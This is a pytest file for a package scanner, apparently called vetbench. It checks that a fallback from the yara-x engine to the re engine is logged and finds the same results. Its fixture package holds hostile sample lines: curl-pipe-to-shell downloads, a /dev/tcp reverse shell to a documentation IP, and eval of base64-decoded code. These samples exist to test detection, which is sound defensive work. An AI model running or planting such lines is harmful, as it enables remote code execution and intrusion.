"""yara-x runs the pattern rules; when it cannot, the ``re`` engine does, and says so.

A fallback used to be silent, so a scan 25x slower than it should be looked like a slow
package. These tests pin: yara-x is what runs by default; an import or compile failure logs one
warning, puts a note in the scan result (and one stderr line in ``vetbench scan``) and still
finds the same capabilities; ``VETBENCH_PATTERN_ENGINE=re`` is a choice and stays quiet.
"""

from __future__ import annotations

import json
import logging
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest

from app.core.archive import open_artifact
from app.core.capabilities import fallback, patterns
from app.core.capabilities.atoms import AtomMatcher, AtomRule, YaraMatcher, fast_matcher
from app.core.capabilities.scan import scan_artifact
from tests.core.archive.fixtures import make_sdist

REPO = Path(__file__).resolve().parents[3]
NOTE = re.compile(r"^yara-x unavailable \(.+\), using the slower re engine$")
FILES = {
    "setup.py": b"import os\nfrom setuptools import setup\nos.system('curl http://192.0.2.1/x | sh')\nsetup()\n",
    "tools/install.sh": b"#!/bin/sh\ncurl -fsSL http://192.0.2.7/i.sh | bash\nbash -i >& /dev/tcp/192.0.2.7/4444 0>&1\n",
    "web/run.js": b"const cp = require('child_process');\neval(atob('YWxlcnQoMSk='));\n",
}
RULES = [
    AtomRule("curl", ("curl",), r"curl\s{1,5}-\w{1,9}"),
    AtomRule("eval", ("eval",), r"eval\s{0,3}\("),
]


@pytest.fixture
def package(tmp_path):
    return make_sdist(tmp_path, name="evil", files=FILES)


@pytest.fixture
def fresh(monkeypatch):
    """A process that has not chosen its engine yet and has recorded no fallback."""
    monkeypatch.delenv("VETBENCH_PATTERN_ENGINE", raising=False)
    monkeypatch.setattr(patterns, "_ENGINE", None)
    monkeypatch.setattr(fallback, "_NOTES", [])


def _capabilities(result) -> set[tuple[str, str, int]]:
    return {(h.capability, h.path, h.line) for h in result.findings}


def _by_re(package, monkeypatch) -> set[tuple[str, str, int]]:
    """What the ``re`` engine finds, chosen on purpose: the reference for a fallback. (yara-x
    may add a weaker rule at the same spot, e.g. exec.dynamic beside exec.decode_then_exec,
    where the ``re`` alternation keeps the strongest; the places found are the same.)"""
    with monkeypatch.context() as m:
        m.setenv("VETBENCH_PATTERN_ENGINE", "re")
        m.setattr(patterns, "_ENGINE", None)
        by_re = _capabilities(scan_artifact(open_artifact(package)))
    by_yara = _capabilities(scan_artifact(open_artifact(package)))
    assert by_re <= by_yara and {c[1:] for c in by_re} == {c[1:] for c in by_yara}
    assert {c[0] for c in by_re} >= {
        "process.shell_download",
        "net.reverse_shell",
        "exec.decode_then_exec",
    }
    return by_re


def _warnings(caplog) -> list[str]:
    return [
        r.getMessage()
        for r in caplog.records
        if r.name == fallback.__name__ and r.levelno == logging.WARNING
    ]


def test_yara_x_is_the_engine_in_use(package, fresh):
    from app.core.capabilities import strings

    assert patterns.engine().name == "yara-x"
    assert type(strings.ENDPOINTS) is YaraMatcher and type(strings.CONTENT) is YaraMatcher
    result = scan_artifact(open_artifact(package))
    assert result.notes == [] and "notes" not in result.to_json()
    assert fallback.notes() == []


def test_yara_x_not_importable_falls_back_with_a_warning_and_a_note(
    package, fresh, monkeypatch, caplog
):
    expected = _by_re(package, monkeypatch)
    monkeypatch.setattr(patterns, "_ENGINE", None)
    monkeypatch.setitem(sys.modules, "yara_x", None)  # "import yara_x" raises ImportError
    with caplog.at_level(logging.WARNING, logger=fallback.__name__):
        assert type(fast_matcher(RULES)) is AtomMatcher
        assert patterns.engine().name == "re"
        result = scan_artifact(open_artifact(package))
    assert _capabilities(result) == expected
    assert len(result.notes) == 1 and NOTE.match(result.notes[0])
    assert result.to_json()["notes"] == result.notes and result.errors == []
    assert _warnings(caplog) == result.notes  # twice failed, warned once


def test_yara_x_refusing_the_rules_falls_back_with_a_warning_and_a_note(
    package, fresh, monkeypatch, caplog
):
    import yara_x

    expected = _by_re(package, monkeypatch)

    class RefusingCompiler:
        def add_source(self, source):
            raise yara_x.CompileError("error[E014]: invalid regular expression")

    monkeypatch.setattr(yara_x, "Compiler", RefusingCompiler)
    monkeypatch.setattr(patterns, "_ENGINE", None)
    with caplog.at_level(logging.WARNING, logger=fallback.__name__):
        assert type(fast_matcher(RULES)) is AtomMatcher
        assert patterns.engine().name == "yara-x"  # it imports; each language falls back
        result = scan_artifact(open_artifact(package))
    assert _capabilities(result) == expected
    assert result.notes == [
        "yara-x unavailable (error[E014]: invalid regular expression), using the slower re engine"
    ]
    assert _warnings(caplog) == result.notes


def test_choosing_re_is_not_a_fallback(package, fresh, monkeypatch, caplog):
    expected = _by_re(package, monkeypatch)
    monkeypatch.setattr(patterns, "_ENGINE", None)
    monkeypatch.setenv("VETBENCH_PATTERN_ENGINE", "re")
    with caplog.at_level(logging.DEBUG, logger=fallback.__name__):
        assert type(fast_matcher(RULES)) is AtomMatcher
        assert patterns.engine().name == "re"
        result = scan_artifact(open_artifact(package))
    assert _capabilities(result) == expected
    assert result.notes == [] and "notes" not in result.to_json()
    assert _warnings(caplog) == []


def test_release_diff_names_the_fallback_once(tmp_path, fresh, monkeypatch):
    from app.core.diff.release import diff_artifacts

    old = make_sdist(tmp_path, name="evil", version="1.0")
    new = make_sdist(tmp_path, name="evil", version="1.1", files=FILES)
    monkeypatch.setitem(sys.modules, "yara_x", None)
    diff = diff_artifacts(open_artifact(old), open_artifact(new))
    assert [e for e in diff.errors if NOTE.match(e)] == fallback.notes() != []


# ---------------------------------------------------------------------------- vetbench scan

BLOCK_YARA = "import sys; sys.modules['yara_x'] = None; "


def _cli(*argv: str, prelude: str = "", **env: str) -> subprocess.CompletedProcess:
    code = prelude + "from app.cli import main; raise SystemExit(main(sys.argv[1:]))"
    environ = {k: v for k, v in os.environ.items() if k != "VETBENCH_PATTERN_ENGINE"}
    environ.update(PYTHONPATH=str(REPO), **env)
    return subprocess.run(
        [sys.executable, "-c", "import sys; " + code, *argv],
        cwd=REPO,
        env=environ,
        capture_output=True,
        text=True,
        timeout=120,
    )


def _findings(stdout: str) -> list[list[dict]]:
    return [json.loads(line)["findings"] for line in stdout.splitlines()]


def test_scan_says_once_on_stderr_that_yara_x_is_unavailable(tmp_path, package):
    other = make_sdist(tmp_path, name="other", files={"run.sh": FILES["tools/install.sh"]})
    args = ("scan", str(package), str(other), "--json", "--no-cache", "--jobs", "2")
    normal = _cli(*args)
    assert normal.returncode == 0 and normal.stderr == ""
    assert all("notes" not in json.loads(line) for line in normal.stdout.splitlines())
    blocked = _cli(*args, prelude=BLOCK_YARA)
    assert blocked.returncode == 0
    lines = blocked.stderr.splitlines()
    assert (
        len(lines) == 1
        and lines[0].startswith("vetbench: ")
        and NOTE.match(lines[0][len("vetbench: ") :])
    )
    docs = [json.loads(line) for line in blocked.stdout.splitlines()]
    assert [d["notes"] for d in docs] == [[lines[0][len("vetbench: ") :]]] * 2
    chosen = _cli(*args, VETBENCH_PATTERN_ENGINE="re")
    assert _findings(blocked.stdout) == _findings(chosen.stdout) != [[], []]


def test_scan_with_the_re_engine_chosen_is_quiet(package):
    chosen = _cli("scan", str(package), "--json", "--no-cache", VETBENCH_PATTERN_ENGINE="re")
    assert chosen.returncode == 0 and chosen.stderr == ""
    assert "notes" not in json.loads(chosen.stdout)
